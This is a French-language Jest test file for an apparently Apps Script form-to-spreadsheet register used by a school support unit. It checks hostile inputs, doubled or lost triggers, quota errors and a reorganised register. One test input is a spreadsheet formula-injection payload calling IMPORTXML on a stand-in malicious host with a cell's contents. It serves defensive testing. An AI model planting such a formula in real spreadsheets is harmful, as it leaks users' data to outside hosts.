// What people and the platform do to us: hostile texts, doubled and empty events, a register moved about.
// A blank event too, as in markfguerra/google-forms-to-slack#7.
import { sheetModel } from '../../local/model/spreadsheet';
import {
  userDeleteSheet,
  userInsertColumn,
  userRenameSheet,
  userSort,
} from '../../local/services/spreadsheet/userEdit';
import { readTab } from '../../local/demo/readTab';
import type { Workspace } from '../../local/workspace';
import {
  adresses,
  demande,
  demandes,
  desReponses,
  erreurs,
  formulaireDe,
  manquements,
  unPole,
} from '../support/unPole';

const FAITS = 'Ce qui se passe';
const CODE = 'Code de l’élève';
const DEBUT = '2018-09-18T09:00';

function deposer(pole: Workspace, changements: Record<string, string> = {}, rang = 0) {
  return pole.submitForm(formulaireDe(pole), desReponses({ [CODE]: 'Hérisson 2', ...changements }, rang));
}

/** Questions without their limits of length, as someone who edits the Form by hand may leave them. */
function sansLimites(pole: Workspace): void {
  for (const item of pole.state.forms[formulaireDe(pole)]!.items) delete (item as { validation?: unknown }).validation;
}

function enTetes(pole: Workspace, onglet: string): string[] {
  return Object.keys(readTab(pole, onglet).columns);
}

function formules(pole: Workspace): unknown[] {
  const { sheets } = pole.state.spreadsheets[pole.boundTo]!;
  return sheets
    .filter(({ formId }) => !formId)
    .flatMap(({ cells }) => cells.flat())
    .filter((cell) => cell !== null && typeof cell === 'object' && 'formula' in cell);
}

describe('des textes hostiles', () => {
  it.each(['=IMPORTXML("https://mal.example/"&A1,"//a")', '+33 6 00 00 00 00', '@import', '-1+1', "'=1+1"])(
    '« %s » reste un texte dans le registre',
    (texte) => {
      const pole = unPole(DEBUT);
      deposer(pole, { [FAITS]: texte });
      expect(demande(pole, '2018-P1-002')[FAITS]!.replace(/^'/, '')).toBe(texte.replace(/^'/, ''));
      expect(formules(pole)).toEqual([]);
      expect(erreurs(pole)).toEqual([]);
      expect(manquements(pole)).toEqual([]);
    },
  );

  it('« =… » reste un texte, que Google garde ou retire l’apostrophe dans une cellule au format texte', () => {
    const pole = unPole(DEBUT);
    pole.faults.apostropheKeptInTextCells = true;
    deposer(pole, { [FAITS]: '=1+1' });
    expect(formules(pole)).toEqual([]);
    pole.advanceTo('2018-09-19T08:00');
    expect(adresses(pole).filter((mail) => mail.includes('mise à jour'))).toEqual([]);
    expect(manquements(pole)).toEqual([]);
  });

  it('60 000 caractères sont enregistrés, le registre dit où est la suite, et rien ne part deux fois', () => {
    const pole = unPole(DEBUT);
    sansLimites(pole);
    deposer(pole, { [FAITS]: 'a'.repeat(60_000) });
    const ecrit = demande(pole, '2018-P1-002')[FAITS]!;
    expect(ecrit.length).toBeLessThan(10_000);
    expect(ecrit).toContain('suite dans la réponse au formulaire');
    // The avis of its members waits for the fiche, which the next ronde writes.
    pole.advanceTo('2018-09-18T16:00');
    const avant = pole.mails.length;
    pole.advanceTo('2018-09-19T08:00');
    // Another demande has waited two days for the answer of its référent; nothing else leaves.
    expect(adresses(pole).slice(avant).filter((mail) => !/2018-P1-001.*votre réponse est attendue/.test(mail))).toEqual([]); // oxfmt-ignore
    expect(erreurs(pole)).toEqual([]);
    expect(manquements(pole)).toEqual([]);
  });

  it('emoji, écriture de droite à gauche et balises arrivent tels quels', () => {
    const pole = unPole(DEBUT);
    const texte = '👩‍👧 مرحبا <b onclick="x">שלום</b> – l’été';
    deposer(pole, { [CODE]: 'مرحبا 🦔', [FAITS]: texte });
    expect(demande(pole, '2018-P1-002')).toMatchObject({ [FAITS]: texte, Code: 'مرحبا 🦔' });
    expect(manquements(pole)).toEqual([]);
  });
});

describe('une école ou un motif que l’on ne connaît pas', () => {
  it('est à trier, jamais perdu, et l’école reçoit son numéro', () => {
    const pole = unPole(DEBUT);
    deposer(pole, { École: 'Mon école n’est pas dans la liste' });
    const ligne = demande(pole, '2018-P1-002');
    expect(ligne).toMatchObject({ Statut: 'À trier', Référent·e: '' });
    expect(ligne['Pourquoi']).toContain('n’est pas dans l’onglet « Écoles »');
    expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002'))).toEqual([
      'tilleuls@ecoles.example.org | Pôle ressources – demande 2018-P1-002 bien reçue',
      'circonscription@circo.example.org, cpc@circo.example.org | Pôle ressources – nouvelle demande 2018-P1-002 (à trier)',
    ]);
  });

  it('« Autre situation » va à une personne', () => {
    const pole = unPole(DEBUT);
    deposer(pole, { 'Motif principal': 'Autre situation' });
    expect(demande(pole, '2018-P1-002')).toMatchObject({
      Statut: 'À trier',
      Pourquoi: '« Autre situation » : une personne du pôle décide de la suite.',
    });
  });

  it('un motif retiré de l’onglet après coup met à trier', () => {
    const pole = unPole(DEBUT);
    pole.edit('Motifs', 'B2', 'Tout autre libellé');
    deposer(pole);
    expect(demande(pole, '2018-P1-002')['Statut']).toBe('À trier');
    expect(manquements(pole)).toEqual([]);
  });
});

describe('des événements qui mentent', () => {
  it('un événement vide fait relire le formulaire', () => {
    const pole = unPole(DEBUT);
    pole.faults.loseFormTriggers = 1;
    deposer(pole);
    expect(demandes(pole)).toHaveLength(1);
    const options = { account: pole.state.triggers[0]!.owner, authMode: 'FULL', hasUi: false } as const;
    for (const evenement of [undefined, {}]) pole.execute('onFormSubmit', options, 'form', () => [evenement]);
    expect(demandes(pole)).toHaveLength(2);
    expect(erreurs(pole)).toEqual([]);
    expect(manquements(pole)).toEqual([]);
  });

  it('un événement doublé n’inscrit et n’écrit qu’une fois', () => {
    const pole = unPole(DEBUT);
    pole.faults.doubleFormTriggers = 1;
    deposer(pole);
    expect(demandes(pole)).toHaveLength(2);
    expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002 bien reçue'))).toHaveLength(1);
    expect(manquements(pole)).toEqual([]);
  });

  it('un déclencheur perdu est rattrapé par la ronde suivante', () => {
    const pole = unPole(DEBUT);
    pole.faults.loseFormTriggers = 1;
    deposer(pole);
    pole.advanceTo('2018-09-18T12:00');
    expect(demande(pole, '2018-P1-002')['Statut']).toBe('Affectée');
    expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002 bien reçue'))).toHaveLength(1);
    expect(manquements(pole)).toEqual([]);
  });

  it('le verrou pris par un autre laisse la réponse à la ronde suivante', () => {
    const pole = unPole(DEBUT);
    pole.faults.busyLocks = 1;
    deposer(pole);
    expect(demandes(pole)).toHaveLength(1);
    pole.advanceTo('2018-09-18T12:00');
    expect(demandes(pole)).toHaveLength(2);
  });

  it('une réponse modifiée reste la même demande, et l’école le sait', () => {
    const pole = unPole(DEBUT);
    const { responseId } = deposer(pole);
    pole.advanceTo('2018-09-18T09:30');
    pole.submitForm(
      formulaireDe(pole),
      desReponses({ [CODE]: 'Hérisson 2', [FAITS]: 'Depuis lundi, tout va mieux.' }),
      { editOf: responseId },
    );
    expect(demandes(pole)).toHaveLength(2);
    expect(demande(pole, '2018-P1-002')[FAITS]).toBe('Depuis lundi, tout va mieux.');
    expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002 mise à jour'))).toHaveLength(1);
    expect(manquements(pole)).toEqual([]);
  });

  it('une modification dont le déclencheur est perdu est rattrapée', () => {
    const pole = unPole(DEBUT);
    const { responseId } = deposer(pole);
    pole.advanceTo('2018-09-18T12:00');
    pole.faults.loseFormTriggers = 1;
    pole.submitForm(formulaireDe(pole), desReponses({ [CODE]: 'Hérisson 2', [FAITS]: 'Corrigé.' }), {
      editOf: responseId,
    });
    pole.advanceTo('2018-09-19T08:00');
    expect(demande(pole, '2018-P1-002')[FAITS]).toBe('Corrigé.');
  });

  it('deux demandes dans la même seconde ont deux numéros', () => {
    const pole = unPole(DEBUT);
    pole.faults.busyLocks = 1;
    deposer(pole);
    deposer(pole, { [CODE]: 'Hérisson 3' });
    pole.advanceTo('2018-09-18T12:00');
    expect(demandes(pole).map((ligne) => ligne['Numéro'])).toEqual(['2018-P1-001', '2018-P1-002', '2018-P1-003']);
    expect(manquements(pole)).toEqual([]);
  });

  it('le quota épuisé garde la demande au registre et renvoie les courriers le lendemain', () => {
    const pole = unPole(DEBUT);
    pole.faults.serviceErrors = Array.from({ length: 5 }, () => ({ member: 'Mail.MailApp.sendEmail', message: 'Service invoked too many times for one day: email.' })); // oxfmt-ignore
    deposer(pole);
    expect(demande(pole, '2018-P1-002')['Statut']).toBe('Affectée');
    expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002'))).toEqual([]);
    pole.faults.serviceErrors = [];
    pole.advanceTo('2018-09-19T08:00');
    expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002 bien reçue'))).toHaveLength(1);
    expect(manquements(pole)).toEqual([]);
  });

  it('les déclencheurs d’un autre compte ne font rien', () => {
    const pole = unPole(DEBUT);
    for (const trigger of pole.state.triggers) trigger.owner = 'curieux@circo.example.org';
    deposer(pole);
    expect(demandes(pole)).toHaveLength(1);
    expect(erreurs(pole)).toEqual([]);
  });
});

describe('un registre que l’on a déplacé', () => {
  it('un titre renommé, une colonne insérée et un onglet renommé n’égarent rien', () => {
    const pole = unPole(DEBUT);
    const { columns } = readTab(pole, 'Demandes');
    pole.edit('Demandes', `${columns['École']}1`, 'Établissement');
    userInsertColumn(pole, 'Demandes', 2);
    pole.edit('Demandes', 'B1', 'Ma colonne');
    pole.edit('Demandes', 'B2', 'à moi');
    userRenameSheet(pole, 'Demandes', 'Le registre');
    deposer(pole);
    const [premiere, seconde] = readTab(pole, 'Le registre').rows;
    expect(premiere).toMatchObject({ 'Ma colonne': 'à moi', Numéro: '2018-P1-001' });
    expect(seconde).toMatchObject({
      'Ma colonne': '',
      Numéro: '2018-P1-002',
      Établissement: 'École élémentaire des Tilleuls',
    });
    expect(erreurs(pole)).toEqual([]);
  });

  it('un registre trié à l’envers reçoit, corrige et vérifie comme avant', () => {
    const pole = unPole('2018-10-09T09:00');
    userSort(pole, 'Demandes', 1, false);
    deposer(pole);
    expect(demandes(pole)[0]!['Numéro']).toBe('2018-P1-009');
    expect(
      demandes(pole)
        .map((ligne) => ligne['Numéro'])
        .sort(),
    ).toHaveLength(10);
    expect(manquements(pole)).toEqual([]);
  });

  it('un titre en double : celui qui porte le repère est le nôtre', () => {
    const pole = unPole(DEBUT);
    userInsertColumn(pole, 'Demandes', 1);
    pole.edit('Demandes', 'A1', 'Statut');
    deposer(pole);
    const statuts = enTetes(pole, 'Demandes').filter((titre) => titre === 'Statut');
    expect(statuts).toHaveLength(1);
    expect(demande(pole, '2018-P1-002')['Statut']).toBe('Affectée');
    expect(erreurs(pole)).toEqual([]);
  });

  it('un onglet supprimé : une phrase le nomme, rien n’est perdu, et ce qui attendait passe une fois l’onglet rempli', () => {
    const pole = unPole(DEBUT);
    userDeleteSheet(pole, 'Motifs');
    deposer(pole);
    expect(pole.mails[pole.mails.length - 1]!.body).toContain('L’onglet « Motifs » a disparu. Rien n’est perdu');
    pole.call('menuVerifierRegistre');
    pole.call('menuInstaller');
    expect(pole.ui.shown.at(-1)!.content).toContain('L’onglet « Motifs » a disparu');
    pole.call('menuReconstruire');
    pole.call('menuFaireLaRonde');
    expect(pole.ui.shown.at(-1)!.content).toMatch(/«\sMotifs\s» est refait, mais vide/);
    expect(demandes(pole)).toHaveLength(1);
    // Brought back from the history: what waited is received as it would have been.
    const { cells } = sheetModel(unPole(DEBUT).state.spreadsheets[pole.boundTo]!, 'Motifs')!;
    sheetModel(pole.state.spreadsheets[pole.boundTo]!, 'Motifs')!.cells = cells;
    pole.call('menuFaireLaRonde');
    expect(demande(pole, '2018-P1-002')['Statut']).toBe('Affectée');
    expect(erreurs(pole)).toEqual([]);
    expect(manquements(pole)).toEqual([]);
  });

  it('la même panne n’est dite qu’une fois par jour', () => {
    const pole = unPole(DEBUT);
    userDeleteSheet(pole, 'Membres');
    deposer(pole);
    deposer(pole, { [CODE]: 'Hérisson 3' });
    expect(adresses(pole).filter((mail) => mail.includes('demande votre attention'))).toHaveLength(1);
  });

  it('l’onglet Demandes supprimé est refait, avec les mêmes numéros', () => {
    const pole = unPole('2018-10-09T09:00');
    const numeros = demandes(pole).map((ligne) => ligne['Numéro']);
    const courriels = pole.mails.length;
    userDeleteSheet(pole, 'Demandes');
    pole.call('menuReconstruire');
    pole.call('menuFaireLaRonde');
    pole.advanceTo('2018-10-09T16:00');
    expect(demandes(pole).map((ligne) => ligne['Numéro'])).toEqual(numeros);
    expect(
      adresses(pole)
        .slice(courriels)
        .filter((mail) => mail.includes('bien reçue')),
    ).toEqual([]);
    expect(manquements(pole)).toEqual([]);
  });

  it('une ligne effacée à la main revient sous son numéro', () => {
    const pole = unPole('2018-10-09T09:00');
    const sheet = sheetModel(pole.state.spreadsheets[pole.boundTo]!, 'Demandes')!;
    sheet.cells.splice(2, 1);
    pole.advanceTo('2018-10-10T08:00');
    expect(demande(pole, '2018-P1-002')['École']).toBe('École primaire du Verger');
    expect(manquements(pole)).toEqual([]);
  });

  it('des notes écrites par une personne ne sont jamais touchées', () => {
    const pole = unPole('2018-10-10T23:00');
    const { columns } = readTab(pole, 'Demandes');
    pole.edit('Demandes', `${columns['Notes']}2`, 'Appeler jeudi');
    pole.advanceTo('2018-10-12T08:00');
    expect(demande(pole, '2018-P1-001')).toMatchObject({
      Notes: 'Appeler jeudi',
      Statut: 'Inscrite à l’ordre du jour',
    });
  });
});

describe('l’installation', () => {
  it('recommencée ne change rien', () => {
    const pole = unPole(DEBUT);
    const avant = JSON.stringify([readTab(pole, 'Motifs'), readTab(pole, 'Paramètres'), pole.state.triggers, pole.state.forms[formulaireDe(pole)]!.items]); // oxfmt-ignore
    pole.call('menuInstaller');
    expect(erreurs(pole)).toEqual([]);
    expect(JSON.stringify([readTab(pole, 'Motifs'), readTab(pole, 'Paramètres'), pole.state.triggers, pole.state.forms[formulaireDe(pole)]!.items])).toBe(avant); // oxfmt-ignore
  });

  it('dit ligne par ligne ce qui ne se lit pas dans les listes collées', () => {
    const pole = unPole(DEBUT);
    pole.edit('Membres', 'B3', 'pas une adresse');
    pole.edit('Membres', 'I4', 'la semaine prochaine');
    pole.edit('Écoles', 'C5', '');
    pole.call('menuControlerOnglets');
    const { content } = pole.ui.shown[pole.ui.shown.length - 1]!;
    expect(content).toContain(
      'Onglet « Membres », ligne 3, colonne « Courriel » : « pas une adresse » n’est pas une adresse.',
    );
    expect(content).toContain('Onglet « Membres », ligne 4, colonne « Absences »');
    expect(content).toContain('Onglet « Écoles », ligne 5, colonne « Adresse officielle » : il manque une adresse.');
  });

  it('dit quels membres ont la même adresse : chacun lirait les courriels et la fiche de l’autre', () => {
    const pole = unPole(DEBUT);
    const lire = (): string => {
      pole.call('menuControlerOnglets');
      return pole.ui.shown.at(-1)!.content.replace(/[\u00a0\u202f]/g, ' ');
    };
    expect(lire()).not.toContain('même adresse');
    pole.edit('Membres', `${readTab(pole, 'Membres').columns['Courriel']}3`, 'A.Lacombe@circo.example.org');
    expect(lire()).toContain('Aude Lacombe-Sève et Malik Tarrade ont la même adresse');
    expect(lire()).not.toContain('À corriger');
  });
});
